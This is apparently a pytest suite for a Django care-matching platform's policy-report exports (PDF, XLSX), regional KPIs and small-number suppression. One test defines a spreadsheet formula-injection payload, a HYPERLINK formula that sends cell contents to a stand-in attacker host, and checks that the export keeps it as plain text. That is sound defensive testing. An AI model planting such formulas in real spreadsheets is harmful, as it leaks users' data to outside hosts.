"""Matching signals beside a report (small numbers suppressed), the policy report (PDF and XLSX read back), KPIs."""

import io
import re
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from drakentemmers.accounts.models import Role
from drakentemmers.accounts.tests.factories import make_user
from drakentemmers.core.kpis import KpiPeriod, kpi_get
from drakentemmers.directory.tests.factories import OrganisationMembershipFactory
from drakentemmers.insights import services
from drakentemmers.insights.models import Report, ReportKind, Theme
from drakentemmers.insights.selectors import matching_signals
from drakentemmers.matching.models import RequestStatus
from drakentemmers.matching.tests.factories import care_request

from .factories import region, report, therapist

pytestmark = pytest.mark.django_db
PDF = reverse("insights_beheer:policy_report_pdf")
XLSX = reverse("insights_beheer:policy_report_xlsx")


def _staff():
    staff = make_user(Role.ORG_STAFF, mfa=True)
    OrganisationMembershipFactory(user=staff)  # organisation in Amsterdam (PC4 1011): region VT01
    return staff


def _window():
    now = timezone.now()
    return {"since": now - timedelta(days=30), "until": now + timedelta(days=1)}


def test_unmatched_requests_are_counted_per_region_and_small_numbers_hidden():
    staff = _staff()
    for _ in range(3):
        care_request(staff=staff, status=RequestStatus.EXPIRED)
    signal = next(s for s in matching_signals(regions=[region("VT01")], **_window()))
    assert signal.unmatched == 3 and signal.unmatched_shown is None  # fewer than 5: not shown
    for _ in range(2):
        care_request(staff=staff, status=RequestStatus.EXPIRED)
    signal = matching_signals(regions=[region("VT01")], **_window())[0]
    assert signal.unmatched_shown == 5
    other = matching_signals(regions=[region("VT20")], **_window())[0]
    assert other.unmatched == 0 and other.unmatched_shown == 0


def test_the_detail_page_joins_the_signals_of_the_report_regions(client_for):
    staff = _staff()
    for _ in range(5):
        care_request(staff=staff, status=RequestStatus.EXPIRED)
    r = report(accepted=True, regions=[region("VT01")])
    html = client_for(therapist()).get(reverse("insights:detail", args=[r.pk])).content.decode()
    assert "Amsterdam-Amstelland" in html and "Hulpvragen verlopen zonder match" in html
    assert '<td data-label="Hulpvragen verlopen zonder match">5</td>' in html


def _world():
    top = report(accepted=True, theme=Theme.FUNDING, description="Financiering van behandeling in de opvang ontbreekt.")
    report(accepted=True, theme=Theme.WAITING_TIMES, description="Lange wachttijden voor kinderen.")
    report(
        accepted=True,
        kind=ReportKind.GOOD_PRACTICE,
        theme=Theme.COOPERATION,
        regions=[region("VT20")],
        description="Wekelijks spreekuur van een behandelaar in de opvang werkt.",
    )
    report(description="Nog niet gemodereerd, hoort niet in de rapportage.")
    for postcode in ("1011", "3511", "1012"):
        services.endorsement_set(report=top, user=therapist(postcode), endorsed=True)
    return top


def _query(**extra) -> dict:
    today = timezone.localdate()
    return {"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat(), **extra}


def test_the_pdf_holds_counts_top_bottlenecks_with_endorsements_and_good_practices(client_for):
    _world()
    response = client_for(make_user(Role.EDITOR, mfa=True)).get(PDF, _query())
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    text = " ".join(text.split())
    assert "Beleidsrapportage" in text
    assert "Financiering van behandeling in de opvang ontbreekt" in text
    assert "Herkend door 3 behandelaren in 2 regio’s" in text
    assert "Wekelijks spreekuur" in text
    assert "Nog niet gemodereerd" not in text


def test_the_xlsx_opens_and_respects_the_theme_and_region_choice(client_for):
    _world()
    client = client_for(make_user(Role.MODERATOR, mfa=True))
    response = client.get(XLSX, _query(themes=[Theme.FUNDING, Theme.COOPERATION], regions=[region("VT01").pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Samenvatting",
        "Trend",
        "Belangrijkste knelpunten",
        "Good practices",
        "Citaten",
        "Signalen uit matching",
    ]
    summary = {row[0]: row[1] for row in book["Samenvatting"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Meldingen geaccepteerd"] == 1  # funding in VT01; cooperation lies in VT20
    assert summary["Herkenningen ('Dit herken ik')"] == 3
    top = list(book["Belangrijkste knelpunten"].iter_rows(values_only=True))
    assert top[1][1] == "Financiering" and top[1][4] == 3 and top[1][5] == 2
    assert len(list(book["Good practices"].iter_rows(values_only=True))) == 1  # header only
    regions = [row[0] for row in book["Signalen uit matching"].iter_rows(min_row=2, values_only=True)]
    assert regions == ["Amsterdam-Amstelland"]


def test_the_report_page_shows_a_preview_and_refuses_bad_dates(client_for):
    _world()
    client = client_for(make_user(Role.VERIFIER, mfa=True))
    response = client.get(reverse("insights_beheer:policy_report"))
    assert response.status_code == 200 and "Financiering van behandeling" in response.content.decode()
    bad = _query(start=date.today().isoformat(), end=(date.today() - timedelta(days=3)).isoformat())
    assert client.get(PDF, bad).status_code == 400
    assert client.get(XLSX, {"start": "gisteren", "end": "x"}).status_code == 400


def test_members_and_coordinators_cannot_download_the_report(client_for):
    assert client_for(therapist()).get(PDF).status_code == 404
    coordinator = make_user(Role.COORDINATOR, mfa=True, region=region())
    assert client_for(coordinator).get(XLSX).status_code == 404


def test_kpis_count_nationally_and_per_region():
    top = _world()
    today = timezone.localdate()
    period = KpiPeriod(start=today - timedelta(days=1), end=today + timedelta(days=1), region_kind="vt")
    reported = kpi_get("insights.bottlenecks_reported").measure_function()(period)
    assert reported.national.value == 3  # three bottlenecks (one pending); the good practice not
    assert reported.by_region["VT01"].value == 3
    accepted = kpi_get("insights.reports_accepted").measure_function()(period)
    assert accepted.national.value == 3 and accepted.by_region["VT20"].value == 1
    endorsed = kpi_get("insights.endorsements").measure_function()(period)
    assert endorsed.national.value == 3 and set(endorsed.by_region) == {"VT01", "VT20"}
    assert endorsed.by_region["VT01"].value == 2 and endorsed.by_region["VT20"].value == 1
    assert top.endorsements.count() == 3


def test_the_demo_seeder_is_idempotent():
    from drakentemmers.insights import demo
    from drakentemmers.insights.models import Report

    make_user(Role.MODERATOR, mfa=True, email="verificatie@demo.drakentemmers.nl")
    demo.seed()
    count = Report.objects.count()
    demo.seed()
    assert Report.objects.count() == count >= 10
    assert Report.objects.filter(is_public=True).exists()
    assert Report.objects.filter(kind=ReportKind.GOOD_PRACTICE).exists()
    # Spread over the past year: the policy report's trend shows several months, none in the future.
    months = {created.date().replace(day=1) for created in Report.objects.values_list("created_at", flat=True)}
    assert len(months) >= 6 and max(Report.objects.values_list("created_at", flat=True)) <= timezone.now()


def test_the_report_page_query_count_does_not_grow_with_data(client_for, django_assert_max_num_queries):
    client = client_for(make_user(Role.EDITOR, mfa=True))
    _world()
    with django_assert_max_num_queries(30) as few:
        client.get(reverse("insights_beheer:policy_report"))
    for _ in range(4):
        _world()
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(reverse("insights_beheer:policy_report")).status_code == 200


def test_text_that_looks_like_a_formula_stays_text_in_the_xlsx(client_for):
    evil = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'
    report(accepted=True, description=evil, suggested_action="+1+2")
    response = client_for(make_user(Role.EDITOR, mfa=True)).get(XLSX, _query())
    sheet = load_workbook(io.BytesIO(response.content))["Belangrijkste knelpunten"]
    description, action = sheet.cell(row=2, column=7), sheet.cell(row=2, column=9)
    assert description.value == evil and description.data_type == "s"
    assert action.value == "+1+2" and action.data_type == "s"


def _pdf_text(content: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages).split())


def test_the_pdf_follows_the_chosen_period_themes_and_regions_with_trend_and_quotes(client_for):
    from django.utils.formats import date_format

    _world()
    old = report(accepted=True, theme=Theme.FUNDING, description="Oude melding buiten de gekozen periode.")
    Report.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=90))
    client = client_for(make_user(Role.EDITOR, mfa=True))
    query = _query(themes=[Theme.FUNDING, Theme.COOPERATION], regions=[region("VT01").pk])
    text = _pdf_text(client.get(PDF, query).content)
    start, end = (date.fromisoformat(query[key]) for key in ("start", "end"))
    # The choice is printed: the period in Dutch dates, the themes and the region.
    assert f"Periode {date_format(start, 'j N Y')} – {date_format(end, 'j N Y')}" in text
    assert "Thema’s Financiering, Samenwerking" in text
    assert re.search(r"Regio.s Amsterdam-Amstelland Meldingen", text)  # (another app's catalogue: "Regio's")
    assert "Meldingen geaccepteerd 1" in text
    # Only what falls in the choice: waiting times (another theme), the VT20 practice and the old report are out.
    assert "Lange wachttijden" not in text and "Wekelijks spreekuur" not in text and "Oude melding" not in text
    # The trend has a row per month of the period; this month holds the one accepted bottleneck.
    assert "Trend: geaccepteerde meldingen per maand van indienen" in text
    assert f"{date_format(end, 'N Y')} 1 0" in text  # Dutch: "dec. 2026", never "Dec"
    # Quotes: the top bottleneck's description, with the kind and the role of the sender, never a name.
    assert "Citaten uit de praktijk" in text
    assert "“Financiering van behandeling in de opvang ontbreekt.” (Knelpunt, Behandelaar)" in text


def test_the_xlsx_trend_and_quotes_sheets_hold_the_figures(client_for):
    _world()
    response = client_for(make_user(Role.EDITOR, mfa=True)).get(XLSX, _query())
    book = load_workbook(io.BytesIO(response.content))
    trend = list(book["Trend"].iter_rows(values_only=True))
    assert trend[0] == ("Maand", "Knelpunten", "Good practices")
    this_month = f"{timezone.localdate():%Y-%m}"
    assert (this_month, 2, 1) in trend[1:]
    assert sum(row[1] for row in trend[1:]) == 2 and sum(row[2] for row in trend[1:]) == 1
    quotes = [row[2] for row in book["Citaten"].iter_rows(min_row=2, values_only=True)]
    assert "Financiering van behandeling in de opvang ontbreekt." in quotes
    assert "Wekelijks spreekuur van een behandelaar in de opvang werkt." in quotes
    assert not any("Nog niet gemodereerd" in quote for quote in quotes)


def test_declines_are_counted_per_region_by_the_theme_of_their_reason(client_for):
    from drakentemmers.matching.models import Candidacy, CandidacyStatus, DeclineReason

    staff = _staff()
    published = care_request(staff=staff, status=RequestStatus.OPEN)
    rows = [(CandidacyStatus.DECLINED, DeclineReason.FUNDING)] * 5
    rows += [(CandidacyStatus.DECLINED, DeclineReason.TRAVEL)] * 2
    rows += [(CandidacyStatus.DECLINED, DeclineReason.NO_PLACE), (CandidacyStatus.EXPIRED, "")]
    rows += [(CandidacyStatus.ACCEPTED, ""), (CandidacyStatus.INVITED, "")]  # not a decline: not counted
    for status, reason in rows:
        Candidacy.objects.create(care_request=published, status=status, decline_reason=reason)
    draft = care_request(staff=staff)  # never published: outside every window
    Candidacy.objects.create(care_request=draft, status=CandidacyStatus.DECLINED, decline_reason=DeclineReason.FUNDING)

    signal = next(s for s in matching_signals(regions=[region("VT01")], **_window()))
    assert dict(signal.declines) == {Theme.FUNDING: 5, Theme.ACCESSIBILITY: 2, Theme.AVAILABILITY: 2}
    # Funding is shown; the small counts are "fewer than 5", largest first.
    assert signal.decline_rows == [("Financiering", 5), ("Toegankelijkheid", None), ("Beschikbaarheid", None)]
    assert not any(s.declines for s in matching_signals(regions=[region("VT20")], **_window()))

    # Beside a VT01 report on the member page, and in the policy report's spreadsheet.
    r = report(accepted=True, regions=[region("VT01")])
    html = client_for(therapist()).get(reverse("insights:detail", args=[r.pk])).content.decode()
    assert "Financiering: 5; Toegankelijkheid: minder dan 5; Beschikbaarheid: minder dan 5" in html
    editor = client_for(make_user(Role.EDITOR, mfa=True))
    book = load_workbook(io.BytesIO(editor.get(XLSX, _query(regions=[region("VT01").pk])).content))
    rows = list(book["Signalen uit matching"].iter_rows(min_row=2, values_only=True))
    assert ("Amsterdam-Amstelland", 0, "Financiering", 5) in rows  # the request is open: not unmatched
    assert ("Amsterdam-Amstelland", 0, "Toegankelijkheid", "<5") in rows


def test_a_long_description_is_printed_whole_under_its_shortened_title(client_for):
    long = (
        "Ik moest drie keer mijn verhaal doen bij verschillende instanties voordat ik bij een behandelaar kwam, "
        "en elke keer begon het opnieuw."
    )
    report(accepted=True, description=long)
    text = _pdf_text(client_for(make_user(Role.EDITOR, mfa=True)).get(PDF, _query()).content)
    assert "1. Ik moest drie keer mijn verhaal doen bij verschillende instanties voordat ik bij een be…" in text
    assert f"{long} Nog door niemand herkend" in text  # the whole description, then the count
